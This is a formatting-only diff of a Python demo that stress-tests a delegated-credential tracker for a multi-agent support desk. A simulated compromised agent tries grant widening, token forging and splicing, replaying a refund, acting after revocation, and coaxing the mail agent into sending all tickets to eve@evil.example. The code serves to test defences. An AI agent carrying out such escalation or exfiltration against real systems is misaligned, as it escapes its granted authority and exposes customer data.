@@ -42,7 +42,9 @@ TOOLS: Final = (
 )  # fmt: skip
 READ: Final = may("crm.tickets.read", resources=["crm:acme/tickets/*"], ticket=text(max=16))
 REFUND: Final = may("payments.refund", order=text(max=16), amount=between(1, 5000))
-MAIL: Final = may("mail.send", to=each(email("acme.example", "customer.example")), body=text(max=2000))
+MAIL: Final = may(
+    "mail.send", to=each(email("acme.example", "customer.example")), body=text(max=2000)
+)
 
 
 @dataclass(slots=True)
@@ -95,7 +97,9 @@ class Desk:
             [READ, REFUND, MAIL], audience=[DESK], purpose="support", delegations_left=4,
             budget={"calls": 40, "usd_cents": 8000},
         )  # fmt: skip
-        self.task = client.open_task("Refund for ticket 4711", owner=OWNER, ceiling=ceiling, lasts=900)
+        self.task = client.open_task(
+            "Refund for ticket 4711", owner=OWNER, ceiling=ceiling, lasts=900
+        )
         boss = keys["orchestrator"]
         root = client.issue(self.task, to=boss.public)
         self._members = {"orchestrator": Member(boss, root)}
@@ -136,20 +140,36 @@ class Desk:
         steal = call("payments.refund", order="ord-99", amount=5000)
         leak = call("mail.send", to=["eve@evil.example"], body="All tickets")
         self._widen_in_library(me)
-        wide = forgery.widened(me.token, me.key, Grant([READ, REFUND, MAIL], effects=["read", "write"]))
-        self._harm("widens its grant with a hand-made link", leak, lambda a: self._ask(wide, me.key, a))
-        self._harm("calls a tool it was never given", steal, lambda a: self._ask(me.token, me.key, a))
+        wide = forgery.widened(
+            me.token, me.key, Grant([READ, REFUND, MAIL], effects=["read", "write"])
+        )
+        self._harm(
+            "widens its grant with a hand-made link", leak, lambda a: self._ask(wide, me.key, a)
+        )
+        self._harm(
+            "calls a tool it was never given", steal, lambda a: self._ask(me.token, me.key, a)
+        )
         other = call("crm.tickets.read", ticket="4712")
         self._harm("reads another ticket", other, lambda a: self._ask(me.token, me.key, a))
-        self._harm("steals the orchestrator's token", leak, lambda a: self._ask(boss.token, me.key, a))
+        self._harm(
+            "steals the orchestrator's token", leak, lambda a: self._ask(boss.token, me.key, a)
+        )
         upper = self._members["retrieval"].token
         self._harm("strips its own link off", other, lambda a: self._ask(upper, me.key, a))
         splice = forgery.spliced(boss.token, me.token)
-        self._harm("splices itself under the root", steal, lambda a: self._send(splice, me.key, me.token, a))
+        self._harm(
+            "splices itself under the root",
+            steal,
+            lambda a: self._send(splice, me.key, me.token, a),
+        )
         innocent = HolderKey.generate("mail")
         forged = me.token.delegate(by=me.key, to=innocent.public, grant=Grant(delegations_left=0))
         mine = call("crm.tickets.read", ticket="4711")
-        self._harm("forges lineage that names the mail agent", mine, lambda a: self._ask(forged, innocent, a))
+        self._harm(
+            "forges lineage that names the mail agent",
+            mine,
+            lambda a: self._ask(forged, innocent, a),
+        )
         refund = self._members["refund"]
         small = call("payments.refund", order="ord-88", amount=400)
         seen = refund.key.prove(refund.token, small)
@@ -157,11 +177,15 @@ class Desk:
         self._harm("replays the refund it overheard", small,
                    lambda a: self._client.check(refund.token, seen, a))  # fmt: skip
         more = call("payments.refund", order="ord-88", amount=4999)
-        self._harm("alters the overheard amount", more, lambda a: self._client.check(refund.token, seen, a))
+        self._harm(
+            "alters the overheard amount", more, lambda a: self._client.check(refund.token, seen, a)
+        )
         away = call("crm.tickets.read", audience="https://other.example", ticket="4711")
         self._harm("turns to another service", away, lambda a: self._ask(me.token, me.key, a))
         mail = self._members["mail"]
-        self._harm("talks the mail agent into leaking", leak, lambda a: self._ask(mail.token, mail.key, a))
+        self._harm(
+            "talks the mail agent into leaking", leak, lambda a: self._ask(mail.token, mail.key, a)
+        )
         self._harm("talks the refund agent into paying again", steal,
                    lambda a: self._ask(refund.token, refund.key, a))  # fmt: skip
 
@@ -170,7 +194,9 @@ class Desk:
         cut = self._members["retrieval"].token.id
         request = revocation_request(boss.token.chain.origin.issuer, cut)
         epoch = self._client.revoke_below(boss.token, boss.key.prove(boss.token, request), cut)
-        self._say(f"  the orchestrator cuts the retrieval link itself, without the issuer (epoch {epoch})")
+        self._say(
+            f"  the orchestrator cuts the retrieval link itself, without the issuer (epoch {epoch})"
+        )
         mine = call("crm.tickets.read", ticket="4711")
         self._harm("acts after revocation", mine, lambda a: self._ask(me.token, me.key, a))
         mail = self._members["mail"]
@@ -178,7 +204,9 @@ class Desk:
         self._honest("mail", note)
         self._client.close_task(self.task)
         self._say("  the task is closed")
-        self._harm("acts after the task is over", note, lambda a: self._ask(mail.token, mail.key, a))
+        self._harm(
+            "acts after the task is over", note, lambda a: self._ask(mail.token, mail.key, a)
+        )
 
     def _widen_in_library(self, me: Member) -> None:
         try:
@@ -235,10 +263,10 @@ class Desk:
     def _close(self) -> bool:
         passed = len(self._wrong)
         self._say("Harmful actions that got through")
-        self._console.print(f"  with a shared broad credential: {len(self._baseline.executed)} of {self._harmful}")
+        self._console.print(
+            f"  with a shared broad credential: {len(self._baseline.executed)} of {self._harmful}"
+        )
         self._console.print(f"  with the tracker:               {passed} of {self._harmful}")
         for what in self._wrong:
             self._console.print(Text(f"  WRONG: {what}", style="bold"))
         return not self._wrong
-
-
